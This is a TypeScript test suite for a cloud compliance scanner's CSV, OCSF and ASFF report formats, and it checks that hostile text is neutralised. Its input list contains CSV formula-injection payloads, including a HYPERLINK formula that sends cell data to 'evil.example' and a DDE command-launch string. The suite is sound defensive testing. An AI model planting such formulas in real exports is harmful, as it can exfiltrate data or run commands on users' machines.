// --format csv, ocsf and asff: read back with a real CSV parser, validated against OCSF's JSON
// schema and ASFF's documented limits, and fed hostile names, quotes, newlines and formula prefixes.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import Ajv2020 from 'ajv/dist/2020';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { findingKey, type Finding, type ScanReport } from '../src/model/report';
import { renderReport } from '../src/reporters/index';
import { formatForFile } from '../src/reporters/formats';
import { CSV_COLUMNS, csvCell } from '../src/reporters/csv';
import { ASFF_LIMITS, asffProblems, asffText, defaultProductArn, PLACEHOLDER_ACCOUNT, toAsff, type AsffFinding } from '../src/reporters/asff';
import { requirementsOf } from '../src/compliance/index';
import { hostileReport, liveReport, sampleReport } from '../src/reporters/test-report-fixture';

const PROJECT = join(import.meta.dirname, '..');

/** The fixture's live report, with the typed identity every live finding carries since issue 12. */
function liveWithIdentity(): ScanReport {
  const report = liveReport();
  for (const f of report.findings) f.resource.live = { account: f.resource.details!.account!, region: f.resource.details!.region!, arn: f.resource.id };
  report.run = {
    id: '20261204T190000Z-0123abcd',
    command: 'audit',
    startedAt: '2026-12-04T19:00:00.000Z',
    endedAt: '2026-12-04T19:00:05.000Z',
    scope: { key: 'audit:caller:111122223333', label: 'us-east-1, eu-west-1' },
    evaluated: { regions: [{ account: '111122223333', region: 'us-east-1', ruleIds: ['SageMaker-004'] }] },
  };
  return report;
}

/** Values a template author controls: CSV syntax, formula starts, controls, invisible characters. */
const HOSTILE_VALUES = [
  'plain',
  'a,b',
  'say "hi"',
  'line1\nline2',
  'line1\r\nline2',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
  'nul\u0000esc\u001b[31mred',
  'bidi\u202eevil',
  '',
];

function csvRows(text: string): string[][] {
  return parse(text, { relax_column_count: false, skip_empty_lines: false }) as string[][];
}

/** What a cell must read back as: controls escaped, then a formula start neutralised with `'`. */
function expectedCell(value: string): string {
  const escaped = value.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g, (ch) => {
    const code = ch.charCodeAt(0);
    return code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
  });
  return /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(escaped) ? `'${escaped}` : escaped;
}

function hostileFinding(value: string, i: number): Finding {
  return {
    ruleId: 'SageMaker-004',
    result: 'fail',
    resource: { type: 'AWS::SageMaker::NotebookInstance', id: value || 'empty', source: 'cloudformation' },
    location: { file: `t${String(i).padStart(2, '0')}.yaml`, line: i + 1 },
    message: value,
    risk: 'Medium',
    suppressed: true,
    suppression: { reason: value, source: 'config' },
  };
}

describe('--format csv', () => {
  it('is RFC 4180: a header row, one CRLF-terminated row per finding, read back by csv-parse', () => {
    const report = sampleReport();
    const text = renderReport(report, 'csv', { color: false });
    assert.ok(text.endsWith('\r\n'));
    assert.ok(!/[^\r]\n/.test(text), 'every line break between records is CRLF');
    const rows = csvRows(text);
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    assert.equal(rows.length, report.findings.length + 1);
    const byKey = new Map(rows.slice(1).map((r) => [r[0], r]));
    for (const f of report.findings) {
      const r = byKey.get(findingKey(f));
      assert.ok(r, `a row for ${f.resource.id} ${f.ruleId}`);
      assert.deepEqual(r.slice(1, 6), [f.ruleId, f.result, f.risk, f.resource.type, f.resource.id]);
      assert.equal(r[8], f.location.file);
      assert.equal(r[9], String(f.location.line));
      assert.equal(r[11], String(f.suppressed));
      assert.equal(r[12], f.suppressed ? f.suppression!.reason : '');
    }
  });

  it('live findings: account and region columns from the typed identity, no line', () => {
    const report = liveWithIdentity();
    const rows = csvRows(renderReport(report, 'csv', { color: false }));
    for (const r of rows.slice(1)) {
      assert.equal(r[6], '111122223333');
      assert.match(r[7] ?? '', /^(us-east-1|eu-west-1)$/);
      assert.equal(r[9], '');
    }
  });

  it('hostile values read back exactly, formula starts neutralised with a quote, controls escaped', () => {
    const report: ScanReport = { ...sampleReport(), findings: HOSTILE_VALUES.map(hostileFinding) };
    const text = renderReport(report, 'csv', { color: false });
    const rows = csvRows(text);
    assert.equal(rows.length, HOSTILE_VALUES.length + 1);
    for (const [i, value] of HOSTILE_VALUES.entries()) {
      const r = rows.find((row) => row[8] === `t${String(i).padStart(2, '0')}.yaml`);
      assert.ok(r, `row ${i}`);
      assert.equal(r[10], expectedCell(value), `message of ${JSON.stringify(value)}`);
      assert.equal(r[12], expectedCell(value), `reason of ${JSON.stringify(value)}`);
      assert.equal(r[5], expectedCell(value || 'empty'));
      for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
    }
    assert.doesNotMatch(text, /[\u0000\u001b\u202e]/);
  });

  it('any string is one cell that reads back as the escaped, neutralised value (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 1, maxLength: 4 }), (cells) => {
        const line = cells.map(csvCell).join(',') + '\r\n';
        const [row] = csvRows(line);
        assert.deepEqual(row, cells.map(expectedCell));
      }),
      { numRuns: 500 },
    );
  });
});

const schema = JSON.parse(readFileSync(join(PROJECT, 'test', 'fixtures', 'ocsf', 'compliance_finding-1.1.0-cloud.schema.json'), 'utf8'));
const ajv = new Ajv2020({ allErrors: true, strict: false });
const validateOcsf = ajv.compile(schema);

function ocsfEvents(report: ScanReport): Record<string, any>[] {
  return JSON.parse(renderReport(report, 'ocsf', { color: false })) as Record<string, any>[];
}

describe('--format ocsf', () => {
  for (const [name, make] of [
    ['a scan', sampleReport],
    ['a live audit', liveWithIdentity],
    ['hostile names and messages', hostileReport],
    ['formula starts and controls', () => ({ ...sampleReport(), findings: HOSTILE_VALUES.map(hostileFinding) })],
  ] as const) {
    it(`validates against the OCSF 1.1.0 Compliance Finding schema: ${name}`, () => {
      const report = make();
      const events = ocsfEvents(report);
      assert.equal(events.length, report.findings.length);
      for (const e of events) assert.ok(validateOcsf(e), `${JSON.stringify(validateOcsf.errors, null, 1)}\n${JSON.stringify(e, null, 1)}`);
    });
  }

  it('the schema is strict: a property the class does not define, or a wrong class, fails (the check can fail)', () => {
    const e = ocsfEvents(sampleReport())[0]!;
    assert.equal(validateOcsf({ ...e, verdict: 'fail' }), false);
    assert.equal(validateOcsf({ ...e, compliance: { ...e.compliance, status_id: 7 } }), false);
    const { compliance: _dropped, ...noCompliance } = e;
    assert.equal(validateOcsf(noCompliance), false);
  });

  it('class 2003 in category 2; verdicts as compliance status; suppressed findings have status Suppressed', () => {
    const report = sampleReport();
    const events = ocsfEvents(report);
    const byUid = new Map(events.map((e) => [e.finding_info.uid, e]));
    for (const f of report.findings) {
      const e = byUid.get(findingKey(f))!;
      assert.equal(e.class_uid, 2003);
      assert.equal(e.category_uid, 2);
      assert.equal(e.type_uid, 200301);
      assert.equal(e.metadata.version, '1.1.0');
      assert.equal(e.compliance.control, f.ruleId);
      assert.equal(e.compliance.status_id, { pass: 1, fail: 3, unknown: 0 }[f.result]);
      assert.equal(e.status_id, f.suppressed ? 3 : 1);
      assert.equal(e.severity_id, f.result === 'pass' ? 1 : { Low: 2, Medium: 3, High: 4, 'Very High': 4, Extreme: 5 }[f.risk]);
    }
  });

  it('live findings name their account, region and partition', () => {
    const e = ocsfEvents(liveWithIdentity()).find((x) => x.resource.uid.includes('nb-open'))!;
    assert.deepEqual(e.cloud, { provider: 'AWS', account: { uid: '111122223333', type_id: 10, type: 'AWS Account' }, region: 'us-east-1' });
    assert.equal(e.resource.cloud_partition, 'aws');
    assert.equal(e.metadata.correlation_uid, '20261204T190000Z-0123abcd');
    assert.equal(e.time, Date.parse('2026-12-04T19:00:05.000Z'));
  });

  it('hostile text: no raw control, bidi or line-separator character in the output', () => {
    const text = renderReport(hostileReport(), 'ocsf', { color: false });
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
    const events = JSON.parse(text) as Record<string, any>[];
    assert.ok(events.some((e) => e.message.includes('\\x1b[31mred')), 'the escape shown, not acted on');
  });
});

describe('--format asff', () => {
  const all = (report: ScanReport) => JSON.parse(renderReport(report, 'asff', { color: false })) as AsffFinding[];

  it('every finding keeps the documented limits and required fields (scan, live, hostile)', () => {
    for (const report of [sampleReport(), liveWithIdentity(), hostileReport()]) {
      for (const f of all(report)) {
        assert.deepEqual(asffProblems(f), [], JSON.stringify(f));
        for (const key of ['SchemaVersion', 'Id', 'ProductArn', 'GeneratorId', 'AwsAccountId', 'CreatedAt', 'UpdatedAt', 'Title', 'Description', 'Resources', 'Types']) {
          assert.ok(key in f, key);
        }
        assert.equal(f.SchemaVersion, '2018-10-08');
        assert.equal(f.RecordState, 'ACTIVE');
        assert.ok(f.Types.every((t) => t.startsWith('Software and Configuration Checks/')));
      }
    }
  });

  it('live: Id from the finding key, account and region from resource.live, notebook resource type, compliance status from the verdict', () => {
    const report = liveWithIdentity();
    const findings = toAsff(report);
    for (const [i, f] of findings.entries()) {
      const src = [...report.findings].find((x) => `cloudconform/live/${findingKey(x)}` === f.Id);
      assert.ok(src, `finding ${i} has an Id from its key`);
      assert.equal(f.AwsAccountId, '111122223333');
      assert.equal(f.ProductArn, defaultProductArn('111122223333', src.resource.live!.region));
      assert.equal(f.ProductArn, `arn:aws:securityhub:${src.resource.live!.region}:111122223333:product/111122223333/default`);
      assert.equal(f.GeneratorId, 'SageMaker-004');
      assert.equal(f.Resources[0]!.Type, 'AwsSageMakerNotebookInstance');
      assert.equal(f.Resources[0]!.Id, src.resource.id);
      assert.equal(f.Resources[0]!.Region, src.resource.live!.region);
      assert.equal(f.Compliance.Status, { pass: 'PASSED', fail: 'FAILED', unknown: 'NOT_AVAILABLE' }[src.result]);
      assert.equal(f.Severity.Label, src.result === 'pass' ? 'INFORMATIONAL' : 'MEDIUM');
      assert.equal(f.CreatedAt, report.run!.startedAt);
      assert.equal(f.UpdatedAt, report.run!.endedAt);
      assert.equal(f.Workflow?.Status, src.suppressed ? 'SUPPRESSED' : src.result === 'pass' ? 'RESOLVED' : 'NEW');
    }
  });

  it('a live report written before resource.live (aws://ACCOUNT/REGION locator only) keeps its account and region in every format', () => {
    const old = liveReport();
    assert.ok(old.findings.every((f) => f.resource.live === undefined));
    for (const f of toAsff(old)) {
      assert.equal(f.AwsAccountId, '111122223333');
      assert.match(f.Id, /^cloudconform\/live\//);
      assert.match(f.Resources[0]!.Region ?? '', /^(us-east-1|eu-west-1)$/);
    }
    assert.deepEqual(toAsff(old).map((f) => f.Id).sort(), toAsff(liveWithIdentity()).map((f) => f.Id).sort());
    for (const r of csvRows(renderReport(old, 'csv', { color: false })).slice(1)) assert.equal(r[6], '111122223333');
    for (const e of ocsfEvents(old)) assert.equal(e.cloud.account.uid, '111122223333');
  });

  it('a Studio domain is Other; a scan without a target account has the placeholder account; with one, that account', () => {
    const report = sampleReport();
    const first = report.findings[0]!;
    report.findings[0] = { ...first, resource: { ...first.resource, type: 'AWS::SageMaker::Domain' } };
    const domain = toAsff(report).find((f) => f.Resources[0]!.Type === 'Other');
    assert.ok(domain);
    assert.equal(domain.Resources[0]!.Details?.Other.CloudFormationType, 'AWS::SageMaker::Domain');
    assert.ok(toAsff(report).every((f) => f.AwsAccountId === PLACEHOLDER_ACCOUNT));
    const targeted = toAsff(report, { target: { account: '444455556666', region: 'eu-central-1' } });
    assert.ok(targeted.every((f) => f.AwsAccountId === '444455556666' && f.ProductArn === defaultProductArn('444455556666', 'eu-central-1')));
  });

  it('two repositories with the same file and resource get different Ids (the scope joins a scan finding Id)', () => {
    const a = sampleReport();
    const b = sampleReport();
    a.run = { id: 'r1', command: 'scan', startedAt: '2026-12-04T19:00:00.000Z', endedAt: '2026-12-04T19:00:01.000Z', scope: { key: 'scan:repo-a', label: '.' }, evaluated: { files: [] } };
    b.run = { ...a.run, scope: { key: 'scan:repo-b', label: '.' } };
    const ids = (r: ScanReport) => new Set(toAsff(r).map((f) => f.Id));
    const shared = [...ids(a)].filter((id) => ids(b).has(id));
    assert.deepEqual(shared, []);
  });

  it('long and hostile text is cut to the documented lengths and escaped', () => {
    const report = sampleReport();
    const long = '="x"\u202e' + 'é'.repeat(5000) + '\u{1F600}'.repeat(600);
    const first = report.findings[0]!;
    report.findings = [{ ...first, message: long, resource: { ...first.resource, id: long } }];
    const f = toAsff(report)[0]!;
    assert.equal(Array.from(f.Description).length, ASFF_LIMITS.description);
    assert.equal(Array.from(f.Resources[0]!.Id).length, ASFF_LIMITS.id);
    assert.doesNotMatch(f.Description, /\u202e/);
    assert.deepEqual(asffProblems(f), []);
    // A cut never leaves half a surrogate pair.
    assert.equal(asffText('\u{1F600}'.repeat(10), 4), '\u{1F600}'.repeat(3) + '…');
  });

  it('asffProblems names what Security Hub would refuse: 33 RelatedRequirements, an empty title, a bad account (the check can fail)', () => {
    const f = toAsff(sampleReport())[0]!;
    assert.match(asffProblems({ ...f, Compliance: { Status: 'FAILED', RelatedRequirements: Array.from({ length: 33 }, (_, i) => `R ${i}`) } }).join(), /RelatedRequirements/);
    assert.match(asffProblems({ ...f, Title: '' }).join(), /Title/);
    assert.match(asffProblems({ ...f, AwsAccountId: '12345' }).join(), /AwsAccountId/);
  });
});

describe('requirements from the compliance data', () => {
  it('ASFF Compliance.RelatedRequirements and OCSF compliance.requirements/standards name what src/compliance maps the rule to', () => {
    const expected = [...new Set(requirementsOf('SageMaker-004').map((r) => `${r.standard.id}/${r.requirement.id}`))].sort();
    assert.ok(expected.includes('aws-fsbp/SageMaker.1'));
    assert.ok(expected.length > 0 && expected.length <= ASFF_LIMITS.relatedRequirements);
    const report = liveWithIdentity();
    for (const f of toAsff(report)) assert.deepEqual(f.Compliance.RelatedRequirements, expected);
    for (const e of ocsfEvents(report)) {
      assert.deepEqual(e.compliance.requirements, expected);
      assert.ok(e.compliance.standards.includes('PCI DSS 4.0'), e.compliance.standards.join());
      assert.ok(e.compliance.standards.includes('AWS Foundational Security Best Practices 1.0.0'));
    }
  });
});

describe('--output infers the new formats from the file name', () => {
  it('.csv, .ocsf.json and .asff.json', () => {
    assert.equal(formatForFile('out/findings.csv'), 'csv');
    assert.equal(formatForFile('findings.ocsf.json'), 'ocsf');
    assert.equal(formatForFile('FINDINGS.ASFF.JSON'), 'asff');
    assert.equal(formatForFile('report.json'), 'json');
  });
});
